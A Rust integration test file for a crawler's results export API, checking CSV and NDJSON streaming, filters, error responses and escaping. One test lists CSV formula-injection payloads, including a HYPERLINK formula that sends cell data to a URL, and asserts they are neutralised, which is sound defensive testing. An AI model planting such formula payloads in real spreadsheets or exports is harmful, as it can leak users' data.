//! `/api/results/export`: the same results as `/api/results`, as CSV or
//! NDJSON, across batch boundaries, with the same filters, streamed as the
//! client reads it.

use std::time::Duration;

use axum::body::Body;
use crawlfleet::{
    domain::{
        item::PageItem,
        page::{CrawledPage, PagesRead, PagingEnd},
    },
    store,
};
use futures::StreamExt;
use hyper_util::{
    client::legacy::{Client, connect::HttpConnector},
    rt::TokioExecutor,
};
use serde_json::{Value, json};

use crate::support::{ON_DEMAND, TestApp, complete_with_one_page, dispatch_and_claim};

/// More than one export batch (1000 rows), so batches are stitched together.
const ITEMS_PER_PAGE: usize = 250;
const PAGES: i32 = 5;

/// A completed run of `keyword` with `PAGES` pages of items, some of them
/// with text a CSV must quote.
async fn run_with_results(app: &TestApp, keyword: i64, tag: &str) -> i64 {
    let pool = app.pool();
    let run = app.crawl(keyword).await[0];
    let fence = dispatch_and_claim(pool, run, 1, "w").await.unwrap().fence;
    for page in 1..=PAGES {
        let url = format!("http://127.0.0.1/{tag}?page={page}");
        store::runs::enter_url_call(pool, &fence, &url)
            .await
            .unwrap();
        let items: Vec<PageItem> = (0..ITEMS_PER_PAGE)
            .map(|i| {
                let fields = json!({
                    "title": format!("{tag} \"{page}-{i}\", with a comma\nand a line"),
                    "price": i,
                });
                PageItem {
                    content_hash: crawlfleet::worker::content_hash(&fields),
                    item_url: Some(format!("http://127.0.0.1/{tag}/{page}/{i}")),
                    fields,
                }
            })
            .collect();
        store::runs::store_page(
            pool,
            &fence,
            &CrawledPage {
                page,
                url: &url,
                items: &items,
                item_key: None,
                stored_before: &[],
                details_read: &[],
            },
        )
        .await
        .unwrap();
    }
    store::runs::complete(pool, &fence, PagesRead::new(PAGES, PagingEnd::LastPage))
        .await
        .unwrap();
    run
}

/// Every result `/api/results` lists for `query`, all pages.
async fn listed(app: &TestApp, query: &str) -> Vec<Value> {
    let mut all = Vec::new();
    let mut cursor = String::new();
    loop {
        let (status, page) = app
            .get(&format!("/api/results?{query}&limit=1000{cursor}"))
            .await;
        assert_eq!(status, 200, "{page}");
        all.extend(page["items"].as_array().unwrap().iter().cloned());
        match page["next_cursor"].as_str() {
            Some(next) => cursor = format!("&cursor={next}"),
            None => return all,
        }
    }
}

async fn export(app: &TestApp, query: &str) -> (u16, String, String) {
    let response = app
        .http
        .get(format!("{}/api/results/export?{query}", app.base))
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    let content_type = response.headers()[reqwest::header::CONTENT_TYPE]
        .to_str()
        .unwrap()
        .to_owned();
    (status, content_type, response.text().await.unwrap())
}

/// Rows enough that the api cannot have read them all ahead of a client that
/// stopped reading. Ahead of such a client wait a few batches in the api (two
/// in its channel, one being written, one in the server's hands) and, with
/// the client's receive buffer kept small, the api's send buffer (4 MB at
/// most, net.ipv4.tcp_wmem): about 7,000 rows of ~1.5 KB. 20,000 rows is
/// three times that.
const BULK_ROWS: i64 = 20_000;

/// Adds `n` results of ~1.5 KB each to `run` (pages from `first_page` on),
/// written straight into the table: what is streamed is the point here, not
/// how a crawl stores them.
async fn add_results(app: &TestApp, run: i64, first_page: i32, n: i64, tag: &str) {
    sqlx::query(
        "INSERT INTO crawl_results (run_id, keyword_id, site_id, page, position, page_url,
                                    item_url, item_key, fields, content_hash)
         SELECT r.id, r.keyword_id, r.site_id, $2 + n / 1000, n % 1000,
                'http://127.0.0.1/' || $3, NULL, md5($3 || n),
                jsonb_build_object('title', $3 || ' ' || n, 'text', repeat('a', 1000)),
                md5($3 || n)
         FROM crawl_runs r, generate_series(0, $4 - 1) AS n
         WHERE r.id = $1",
    )
    .bind(run)
    .bind(first_page)
    .bind(tag)
    .bind(n)
    .execute(app.pool())
    .await
    .unwrap();
}

/// The NDJSON export of `run` read by a client that takes the first chunk,
/// then stops reading for `pause`, calls `meanwhile`, and reads the rest.
/// Its receive buffer is small, so the kernel holds little of what the api
/// sends ahead. Fails unless the answer is chunked, with no length.
async fn export_read_with_a_pause<F: std::future::Future<Output = ()>>(
    app: &TestApp,
    run: i64,
    pause: Duration,
    meanwhile: F,
) -> Vec<Value> {
    let mut connector = HttpConnector::new();
    connector.set_recv_buffer_size(Some(32 * 1024));
    let client: Client<_, Body> = Client::builder(TokioExecutor::new()).build(connector);
    let uri = format!("{}/api/results/export?format=ndjson&run_id={run}", app.base);
    let response = client.get(uri.parse().unwrap()).await.unwrap();
    assert_eq!(response.status(), 200);
    let headers = response.headers().clone();
    assert_eq!(
        headers.get(http::header::CONTENT_LENGTH),
        None,
        "a length known up front means the whole was produced first: {headers:?}"
    );
    assert_eq!(
        headers[http::header::TRANSFER_ENCODING],
        "chunked",
        "{headers:?}"
    );
    let mut body = Body::new(response.into_body()).into_data_stream();
    let mut received = body.next().await.expect("a first chunk").unwrap().to_vec();
    tokio::time::sleep(pause).await;
    meanwhile.await;
    while let Some(chunk) = body.next().await {
        received.extend_from_slice(&chunk.unwrap());
    }
    String::from_utf8(received)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

#[tokio::test]
async fn the_export_streams_what_the_listing_shows_as_ndjson_and_csv() {
    let app = TestApp::spawn().await;
    let site = app.create_site(app.site_body("shop", "/search")).await;
    let lamps = app.create_keyword("lamp", &[site], ON_DEMAND).await;
    let desks = app.create_keyword("desk", &[site], ON_DEMAND).await;
    let lamp_run = run_with_results(&app, lamps, "lamp").await;
    run_with_results(&app, desks, "desk").await;

    let everything = listed(&app, "").await;
    assert_eq!(everything.len(), 2 * PAGES as usize * ITEMS_PER_PAGE);

    let (status, content_type, ndjson) = export(&app, "format=ndjson").await;
    assert_eq!(status, 200);
    assert_eq!(content_type, "application/x-ndjson");
    let exported: Vec<Value> = ndjson
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(exported, everything, "NDJSON lines are the listed results");

    let (status, content_type, csv) = export(&app, &format!("format=csv&run_id={lamp_run}")).await;
    assert_eq!(status, 200);
    assert_eq!(content_type, "text/csv; charset=utf-8");
    let of_run = listed(&app, &format!("run_id={lamp_run}")).await;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(
        header,
        [
            "id",
            "run_id",
            "keyword_id",
            "site_id",
            "page",
            "position",
            "page_url",
            "item_url",
            "content_hash",
            "fetched_at",
            "first_seen_at",
            "last_seen_at",
            "fields",
            "item_id",
            "change",
            "diff",
            "url_list_id",
            "fields.link",
            "fields.price",
            "fields.title"
        ],
        "an export of one run (one site) has a column per field of its items"
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), of_run.len(), "one row per result of the run");
    for (row, listed) in rows.iter().zip(&of_run) {
        let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_owned();
        for number in ["id", "run_id", "keyword_id", "site_id", "page", "position"] {
            assert_eq!(cell(number), listed[number].to_string(), "{number}");
        }
        for text in ["page_url", "item_url", "content_hash"] {
            assert_eq!(cell(text), listed[text].as_str().unwrap(), "{text}");
        }
        for time in ["fetched_at", "first_seen_at", "last_seen_at"] {
            let exported: chrono::DateTime<chrono::Utc> = cell(time).parse().unwrap();
            let shown: chrono::DateTime<chrono::Utc> =
                listed[time].as_str().unwrap().parse().unwrap();
            assert_eq!(exported, shown, "{time}");
        }
        assert_eq!(cell("item_id"), listed["item_id"].to_string());
        assert_eq!(cell("change"), listed["change"].as_str().unwrap());
        assert_eq!(cell("diff"), "", "nothing changed: no diff");
        let fields: Value = serde_json::from_str(&cell("fields")).unwrap();
        assert_eq!(
            fields, listed["fields"],
            "quotes, commas and line breaks survive"
        );
        assert_eq!(
            cell("fields.title"),
            listed["fields"]["title"].as_str().unwrap()
        );
        assert_eq!(cell("fields.price"), listed["fields"]["price"].to_string());
        assert_eq!(cell("fields.link"), "", "a field the item lacks is empty");
    }

    // Streamed: a large export starts before the whole is read, and is read
    // as the client takes it. Rows written after the client got its first
    // chunk (and stopped reading a while) are in the export: the api had not
    // read to the end when the first bytes left, nor while the client paused.
    add_results(&app, lamp_run, 100, BULK_ROWS, "bulk").await;
    let before = PAGES as usize * ITEMS_PER_PAGE + BULK_ROWS as usize;
    // How long the whole export takes read at full speed: an api that read
    // ahead of a paused client without bound would be done within that.
    let started = std::time::Instant::now();
    let (status, _, whole) = export(&app, &format!("format=ndjson&run_id={lamp_run}")).await;
    let full_speed = started.elapsed();
    assert_eq!((status, whole.lines().count()), (200, before));
    eprintln!(
        "export of {before} rows ({} MB) at full speed: {full_speed:?}",
        whole.len() / 1_000_000
    );
    // Paused twice as long, the client still gets rows written after the
    // pause: the api was waiting for it, holding a few batches, not the whole.
    let pause = full_speed * 2 + Duration::from_millis(500);
    let exported = export_read_with_a_pause(&app, lamp_run, pause, async {
        add_results(&app, lamp_run, 900, 3, "late").await;
    })
    .await;
    assert_eq!(exported.len(), before + 3, "every row, the late ones too");
    let titles: Vec<&str> = exported[before..]
        .iter()
        .map(|r| r["fields"]["title"].as_str().unwrap())
        .collect();
    assert_eq!(titles, ["late 0", "late 1", "late 2"]);
    assert!(
        exported
            .windows(2)
            .all(|w| w[0]["id"].as_i64() < w[1]["id"].as_i64()),
        "oldest first, each once"
    );
    app.stop().await;
}

#[tokio::test]
async fn an_export_without_a_known_format_is_refused_naming_the_field() {
    let app = TestApp::spawn().await;
    for query in [
        "",
        "format=xml",
        "format=csv&run_id=x",
        "format=csv&limit=5",
    ] {
        let (status, _, body) = export(&app, query).await;
        assert_eq!(status, 400, "{query}: {body}");
        let body: Value = serde_json::from_str(&body).unwrap();
        assert_eq!(body["error"]["code"], "bad_request", "{query}: {body}");
    }
    for (query, field) in [
        ("format=xml", "format"),
        ("q=lamp", "format"),
        ("format=csv&limit=5", "limit"),
    ] {
        let (_, _, body) = export(&app, query).await;
        let body: Value = serde_json::from_str(&body).unwrap();
        assert_eq!(body["error"]["field"], field, "{query}: {body}");
    }
    let (status, _, empty) = export(&app, "format=csv&site_id=999").await;
    assert_eq!(
        (status, empty.lines().count()),
        (200, 1),
        "a header, no rows"
    );
    app.stop().await;
}

#[tokio::test]
async fn results_are_found_by_the_words_of_their_fields_and_by_when_they_were_first_seen() {
    let app = TestApp::spawn().await;
    let site = app.create_site(app.site_body("shop", "/search")).await;
    let lamps = app.create_keyword("lamp", &[site], ON_DEMAND).await;
    let desks = app.create_keyword("desk", &[site], ON_DEMAND).await;
    run_with_results(&app, lamps, "lamp").await;
    let between = chrono::Utc::now();
    run_with_results(&app, desks, "desk").await;
    let per_run = PAGES as usize * ITEMS_PER_PAGE;

    // Whole words of the fields' text, any language split on spaces.
    assert_eq!(listed(&app, "q=lamp").await.len(), per_run);
    assert_eq!(listed(&app, "q=comma").await.len(), 2 * per_run);
    assert_eq!(listed(&app, "q=lamp%20-desk").await.len(), per_run);
    assert_eq!(listed(&app, "q=lamp%20or%20desk").await.len(), 2 * per_run);
    assert_eq!(listed(&app, "q=nowhere").await.len(), 0);
    let one = listed(&app, "q=%22lamp%20%5C%223-7%5C%22%22").await;
    assert!(
        one.iter()
            .all(|r| r["fields"]["title"].as_str().unwrap().starts_with("lamp"))
    );
    // Keys are not text of the item.
    assert_eq!(listed(&app, "q=title").await.len(), 0);

    let since = between.to_rfc3339_opts(chrono::SecondsFormat::Micros, true);
    let after = listed(
        &app,
        &format!("first_seen_after={}", since.replace('+', "%2B")),
    )
    .await;
    assert_eq!(after.len(), per_run);
    assert!(after.iter().all(|r| r["keyword_id"] == desks));
    let before = listed(
        &app,
        &format!("first_seen_before={}", since.replace('+', "%2B")),
    )
    .await;
    assert!(before.iter().all(|r| r["keyword_id"] == lamps));
    assert_eq!(before.len(), per_run);

    // The export takes the same filters.
    let (status, _, csv) = export(&app, "format=csv&q=desk").await;
    assert_eq!(status, 200);
    assert_eq!(
        csv.lines().count() - 1,
        per_run,
        "a header, then the desk rows"
    );

    // Bounded and plain text: a clear 422 naming `q`.
    for bad in ["%00lamp", &"a".repeat(201)] {
        let (status, body) = app.get(&format!("/api/results?q={bad}")).await;
        assert_eq!(status, 422, "{body}");
        assert_eq!(body["error"]["field"], "q", "{body}");
    }
    app.stop().await;
}

/// Item URLs a spreadsheet would run as formulas (OWASP's leading
/// characters), as results stored before URLs were kept to http(s) hold them.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://127.0.0.1:9/?leak=\"&A1,\"open\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
];

#[tokio::test]
async fn a_csv_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote() {
    let app = TestApp::spawn().await;
    let pool = app.pool();
    let site = app.create_site(app.site_body("shop", "/search")).await;
    let keyword = app.create_keyword("lamp", &[site], ON_DEMAND).await;
    let run = app.crawl(keyword).await[0];
    let items: Vec<PageItem> = FORMULAS
        .iter()
        .map(|formula| {
            let fields = json!({"title": formula});
            PageItem {
                content_hash: crawlfleet::worker::content_hash(&fields),
                item_url: Some((*formula).to_owned()),
                fields,
            }
        })
        .collect();
    complete_with_one_page(pool, run, "http://127.0.0.1/formulas?page=1", &items).await;

    let (status, _, csv) = export(&app, &format!("format=csv&run_id={run}")).await;
    assert_eq!(status, 200);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let item_url = header.iter().position(|h| h == "item_url").unwrap();
    let fields = header.iter().position(|h| h == "fields").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), FORMULAS.len());
    for (row, formula) in rows.iter().zip(FORMULAS) {
        assert_eq!(&row[item_url], format!("'{formula}"), "{formula:?}");
        let stored: Value = serde_json::from_str(&row[fields]).unwrap();
        assert_eq!(stored["title"], formula, "JSON cells start with {{");
    }
    // NDJSON is data, not a sheet: the values as stored.
    let (_, _, ndjson) = export(&app, &format!("format=ndjson&run_id={run}")).await;
    let urls: Vec<String> = ndjson
        .lines()
        .map(|line| {
            serde_json::from_str::<Value>(line).unwrap()["item_url"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    assert_eq!(urls, FORMULAS);
    app.stop().await;
}
